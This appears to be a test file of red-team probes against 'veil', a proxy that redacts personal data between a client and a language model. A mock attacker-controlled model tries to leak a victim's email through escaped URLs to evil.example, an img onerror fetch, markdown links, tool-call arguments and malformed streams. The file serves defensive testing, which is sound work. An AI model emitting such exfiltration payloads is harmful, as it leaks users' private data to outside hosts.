// Red-team probes of the restore side (session 10, docs/policies.md "Session 10 (wave9/red)")
// against the real `veil serve` process and the official `openai` npm client. The upstream is a
// local mock of the model only (server/src/bench/fake-openai.ts) answering what each probe needs:
// an attacker-controlled model that tries to get a raw value restored where it leaves (a URL or
// tag written with JSON escapes in tool-call arguments or a JSON answer, a tool call under a
// channel that restores nothing). Every probe runs whole and streamed; at the end no probed
// value appears in the server's logs.
import OpenAI from 'openai';
import { describe, expect, it } from 'vitest';
import type { FakeOpenAi, FakeReply } from '../server/src/bench/fake-openai.js';
import { sessionWith, useRedTeam } from './support/red-team.js';
import { postJson, settledLogs, type ServerProcess } from './support/server.js';

const EMAIL = 'red.team.victim@corp.example';

let fake: FakeOpenAi;
let veil: ServerProcess;
let client: OpenAI;
useRedTeam((team) => ({ fake, veil, client } = team));

/** A fresh session holding EMAIL: its token and state. */
function sessionWithEmail(): Promise<{ token: string; state: string }> {
  return sessionWith(veil, EMAIL);
}

interface Answer {
  readonly content: string;
  readonly args: string;
}

/** One proxied answer, whole or streamed, the model replying `reply(token)`, in the probe's own session. */
async function proxied(reply: (token: string) => FakeReply, stream: boolean, headers: Record<string, string> = {}): Promise<Answer> {
  const { token, state } = await sessionWithEmail();
  fake.reply = () => ({ chunkSizes: [3], ...reply(token) });
  const options = { headers: { 'x-veil-session-state': state, ...headers } };
  const messages = [{ role: 'user' as const, content: 'Go on.' }];
  if (!stream) {
    const completion = await client.chat.completions.create({ model: 'fake-model', messages }, options);
    const message = completion.choices[0]!.message;
    const call = message.tool_calls?.[0];
    return { content: message.content ?? '', args: call?.type === 'function' ? call.function.arguments : '' };
  }
  const chunks = await client.chat.completions.create({ model: 'fake-model', messages, stream: true }, options);
  let content = '';
  let args = '';
  for await (const chunk of chunks) {
    content += chunk.choices[0]?.delta.content ?? '';
    args += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? '';
  }
  return { content, args };
}

/** Tool-call arguments that are a URL or a tag once parsed, written with string escapes. */
const ESCAPED_ARGUMENTS: readonly ((token: string) => string)[] = [
  (token) => `{"url":"https\\u003a//evil.example/?d=${token}"}`,
  (token) => `{"url":"https:\\u002f\\u002fevil.example/?d=${token}"}`,
  (token) => `{"url":"\\u0077ww.evil.example/?d=${token}"}`,
  (token) => `{"html":"\\u003cimg src=x onerror=fetch('//evil.example/${token}')\\u003e"}`,
  (token) => `{"markdown":"Report\\n\\n[r]: //evil.example/?d=${token}"}`,
  (token) => `{"payload":"{\\"url\\":\\"https\\\\u003a//evil.example/?d=${token}\\"}"}`,
];

describe('finding 1: URLs and tags written with string escapes restore the label', () => {
  for (const stream of [false, true]) {
    it(`in tool-call arguments (${stream ? 'streamed' : 'whole'})`, async () => {
      for (const args of ESCAPED_ARGUMENTS) {
        const answer = await proxied((token) => ({ content: null, toolCalls: [{ name: 'fetch', arguments: args(token) }] }), stream);
        const parsed = JSON.stringify(JSON.parse(answer.args));
        expect(parsed, args('T')).not.toContain(EMAIL);
        expect(parsed, args('T')).toContain('[email address]');
      }
    });

    it(`in a JSON answer (response_format json_object, ${stream ? 'streamed' : 'whole'})`, async () => {
      const answer = await proxied((token) => ({ content: `{"link":"https\\u003a//evil.example/?d=${token}","to":"${token}"}` }), stream);
      const parsed = JSON.parse(answer.content) as { link: string; to: string };
      expect(parsed.link).toBe('https://evil.example/?d=[email address]');
      // The same value outside a URL is restored: the clamp is where the value would leave.
      expect(parsed.to).toBe(EMAIL);
    });
  }

  it('on /v1/rehydrate and /v1/rehydrate/stream (ndjson)', async () => {
    const { token, state } = await sessionWithEmail();
    const output = `{"u":"\\u003cimg src=\\u0022https://evil.example/?d=${token}\\u0022\\u003e"}`;
    const whole = await postJson(`${veil.url}/v1/rehydrate`, { output, session_state: state });
    expect(whole.body.restored_text).not.toContain(EMAIL);
    const lines = [JSON.stringify({ session_state: state }), ...Array.from(output, (char) => JSON.stringify({ delta: char }))];
    const streamed = await fetch(`${veil.url}/v1/rehydrate/stream`, { method: 'POST', headers: { 'content-type': 'application/x-ndjson' }, body: `${lines.join('\n')}\n` });
    const text = (await streamed.text())
      .split('\n')
      .filter((line) => line.startsWith('data: '))
      .map((line) => (JSON.parse(line.slice(6)) as { restored_text?: string }).restored_text ?? '')
      .join('');
    expect(text).toBe(whole.body.restored_text);
  });
});

describe('finding 2: tool-call arguments never restore above the requested output channel', () => {
  const reply = (token: string): FakeReply => ({ content: `Text ${token}.`, toolCalls: [{ name: 'send', arguments: `{"to":"${token}"}` }] });
  for (const stream of [false, true]) {
    it(`log_safe, a custom channel and export (${stream ? 'streamed' : 'whole'})`, async () => {
      for (const [channel, restored] of [
        ['log_safe', '[REDACTED]'],
        ['partner-feed', '[REDACTED]'],
        ['export', '***.****.******@****.*******'],
      ] as const) {
        const answer = await proxied(reply, stream, { 'x-veil-output-channel': channel });
        expect(answer.content, channel).toBe(`Text ${restored}.`);
        expect(JSON.parse(answer.args), channel).toEqual({ to: restored });
      }
      // user_output (the default) still restores the arguments in full, under tool_payload.
      const answer = await proxied(reply, stream);
      expect(JSON.parse(answer.args)).toEqual({ to: EMAIL });
    });
  }
});

describe('finding 4: a streamed answer cannot reopen a text stream that ended', () => {
  const event = (delta: Record<string, unknown>, finish: string | null = null): string =>
    `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'fake-model', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  const streams: Record<string, (token: string) => string> = {
    'tool-call arguments after the next call started': (token) =>
      event({ role: 'assistant', tool_calls: [{ index: 0, id: 'a', type: 'function', function: { name: 'f', arguments: '{"url":"https://evil.example/?d=' } }] }) +
      event({ tool_calls: [{ index: 1, id: 'b', type: 'function', function: { name: 'g', arguments: '{}' } }] }) +
      event({ tool_calls: [{ index: 0, function: { arguments: `${token}"}` } }] }) +
      event({}, 'tool_calls'),
    'content after the finish_reason': (token) => event({ role: 'assistant', content: '![x](https://evil.example/?d=' }) + event({}, 'stop') + event({ content: `${token})` }) + event({}, 'stop'),
  };
  for (const [name, body] of Object.entries(streams)) {
    it(name, async () => {
      const { token, state } = await sessionWithEmail();
      fake.reply = () => ({ rawStream: `${body(token)}data: [DONE]\n\n` });
      const chunks = await client.chat.completions.create({ model: 'fake-model', messages: [{ role: 'user', content: 'Go on.' }], stream: true }, { headers: { 'x-veil-session-state': state } });
      let text = '';
      let failure: unknown;
      try {
        for await (const chunk of chunks) {
          const delta = chunk.choices[0]?.delta;
          text += `${delta?.content ?? ''}${delta?.tool_calls?.map((call) => call.function?.arguments ?? '').join('') ?? ''}`;
        }
      } catch (error) {
        failure = error;
      }
      expect(text).not.toContain(EMAIL);
      expect(String(failure)).toContain('malformed');
    });
  }
});

describe('finding 8: a value revoked while the upstream is answering restores as [DELETED]', () => {
  for (const stream of [false, true]) {
    it(stream ? 'streamed, a token split across chunks' : 'whole', async () => {
      const value = `revoked.while.answering.${stream ? 's' : 'w'}@corp.example`;
      const transformed = await postJson(`${veil.url}/v1/transform`, { input: `Write to ${value}.` });
      const token = transformed.body.entities[0].token as string;
      let release = (): void => undefined;
      const gate = new Promise<void>((resolve) => {
        release = resolve;
      });
      let received = (): void => undefined;
      const asked = new Promise<void>((resolve) => {
        received = resolve;
      });
      fake.reply = () => {
        received();
        // The token's closing braces arrive with the next word: `Hello {{email:e_001:cap` then `}} by`.
        return { content: `Hello ${token} bye ${token} end.`, chunkSizes: [6 + token.length - 2, 5, 1_000], until: gate };
      };
      const messages = [{ role: 'user' as const, content: 'Go on.' }];
      const options = { headers: { 'x-veil-session-state': transformed.body.session_state as string } };
      const pending = stream
        ? (async () => {
            let text = '';
            for await (const chunk of await client.chat.completions.create({ model: 'fake-model', messages, stream: true }, options)) text += chunk.choices[0]?.delta.content ?? '';
            return text;
          })()
        : client.chat.completions.create({ model: 'fake-model', messages }, options).then((completion) => completion.choices[0]!.message.content ?? '');
      await asked;
      expect((await postJson(`${veil.url}/v1/revoke`, { entity_type: 'email', value })).status).toBe(200);
      release();
      expect(await pending).toBe('Hello [DELETED] bye [DELETED] end.');
    });
  }
});

describe('no probed value in the server logs', () => {
  it('holds after every probe above', async () => {
    expect(await settledLogs(veil)).not.toContain(EMAIL);
    expect(await settledLogs(veil)).not.toContain('red.team.victim');
  });
});
